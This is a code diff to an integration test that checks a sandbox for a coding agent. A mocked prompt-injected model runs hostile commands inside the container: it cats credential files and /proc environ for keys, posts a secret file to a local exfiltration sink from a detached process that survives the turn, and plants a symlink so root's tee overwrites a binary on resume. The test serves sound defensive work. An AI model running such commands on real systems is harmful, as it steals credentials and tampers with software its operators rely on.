@@ -4,7 +4,8 @@ import { execa } from 'execa';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { MockBackend, type MockBackendOptions } from '../../src/demo/mock-backend.js';
 import { chatgptAuthJson, findLeaks, makeCanaries } from '../support/canary.js';
-import { runCommands } from '../support/hostile-model.js';
+import { ExfiltrationSink } from '../support/exfiltration-sink.js';
+import { detachedPost, runCommands } from '../support/hostile-model.js';
 import { metadataSchemaErrors } from '../support/metadata-schema.js';
 import { codexbox } from './support/cli.js';
 import { repoRoot } from './support/compose.js';
@@ -66,6 +67,7 @@ const toolOutputsOf = (backend: MockBackend) =>
 
 describe.skipIf(!environment.available)("Harbor's own codex agent on a task image FROM codexbox", () => {
   const backends: MockBackend[] = [];
+  const sinks: ExfiltrationSink[] = [];
   beforeAll(async () => {
     const build = await execa(
       'docker',
@@ -84,6 +86,7 @@ describe.skipIf(!environment.available)("Harbor's own codex agent on a task imag
   });
   afterAll(async () => {
     for (const backend of backends.splice(0)) await backend.close();
+    for (const sink of sinks.splice(0)) await sink.close();
     await execa('docker', ['rmi', '-f', taskImage], { reject: false });
   });
 
@@ -137,34 +140,57 @@ describe.skipIf(!environment.available)("Harbor's own codex agent on a task imag
     },
   );
 
-  it('an API-key trial as root: the key stays with root, out of the agent’s reach, during and after', async () => {
+  // A prompt-injected agent in an API-key trial: reads everything, leaves a watcher for after the
+  // turn, and plants a link where Harbor's root `tee` writes on the next exec (resume).
+  it('a hostile API-key trial as root: the key stays out of reach, and the next exec writes through no link', async () => {
     const canaries = makeCanaries();
-    const sink = await mock({
-      script: runCommands(
-        [
-          'id -u',
-          'cat /tmp/codex-secrets/auth.json /tmp/codex-home/auth.json "$CODEX_HOME/auth.json" 2>&1; env',
-          'cat /proc/1/environ /proc/*/environ 2>&1 | tr "\\0" "\\n" | grep -i key',
-        ],
-        'HARBOR-TRIAL-DONE',
-      ),
+    const sink = await ExfiltrationSink.start();
+    sinks.push(sink);
+    const planted = [
+      'mv /logs/agent/codex.txt /logs/agent/first.txt; ln -s /usr/local/bin/codexbox-exec /logs/agent/codex.txt',
+      'ls -l /logs/agent',
+    ].join('; ');
+    const readAll =
+      'cat /tmp/codex-secrets/auth.json /tmp/codex-home/auth.json /codex-home/auth.json 2>&1; env; ' +
+      'cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n" | grep -i key';
+    const backend = await mock({
+      script: (context) =>
+        context.turn === 1
+          ? runCommands(
+              ['id -u', readAll, detachedPost(sink.url, 'cat /tmp/codex-secrets/auth.json', 2), planted],
+              'HARBOR-TRIAL-DONE',
+            )(context)
+          : runCommands(['id -u'], 'RESUMED')(context),
     });
     const container = await startTrialContainer();
+    const victimBefore = await containerText(container, 'sha256sum /usr/local/bin/codexbox-exec');
     const trial: HarborTrial = {
       container,
       instruction: 'look around',
       openaiApiKey: canaries.apiKey,
-      openaiBaseUrl: `${sink.url}/v1`,
+      openaiBaseUrl: `${backend.url}/v1`,
     };
-    const result = await runHarborTrial(trial);
-    expect(result.run.exitCode, both(result.run)).toBe(0);
-    expect(toolOutputsOf(sink)[0]).toBe('1000');
-    const seen = sink.toolOutputs.map((entry) => entry.output).join('\n');
-    expect(findLeaks(seen, [canaries.apiKey])).toEqual([]);
-    const upstream = sink.responsesRequests.map((request) => request.authorization);
+    const first = await runHarborTrial(trial, { keep: true });
+    expect(first.run.exitCode, both(first.run)).toBe(0);
+    expect(toolOutputsOf(backend)[0]).toBe('1000');
+    await new Promise((resolve) => setTimeout(resolve, 3000));
+    const resumed = await resumeLast(trial, 'go on');
+    expect(resumed.run.exitCode, both(resumed.run)).toBe(0);
+    expect(resumed.run.stdout).toContain('RESUMED');
+    expect(await containerText(container, 'sha256sum /usr/local/bin/codexbox-exec')).toBe(victimBefore);
+    const sent =
+      backend.toolOutputs.map((entry) => entry.output).join('\n') +
+      sink.received.map((r) => r.body).join('\n');
+    expect(sent).toContain('Permission denied');
+    expect(findLeaks(sent, [canaries.apiKey])).toEqual([]);
+    const upstream = backend.responsesRequests.map((request) => request.authorization);
     expect(upstream.every((value) => value === `Bearer ${canaries.apiKey}`)).toBe(true);
     const logs = await containerText(container, 'find /logs -type f -exec cat {} +');
-    expect(findLeaks(logs + both(result.run), [canaries.apiKey])).toEqual([]);
+    expect(findLeaks(logs + both(first.run) + both(resumed.run), [canaries.apiKey])).toEqual([]);
+    process.stderr.write(
+      `[harbor-agent] hostile API-key trial: ${backend.toolOutputs.length} tool outputs, ${sink.received.length} posts, key hits 0; ` +
+        `codexbox-exec unchanged after the link was planted for root's tee\n`,
+    );
   });
 
   it('refuses an auth file with a refresh token (every trial would race to use it) with exit 78', async () => {
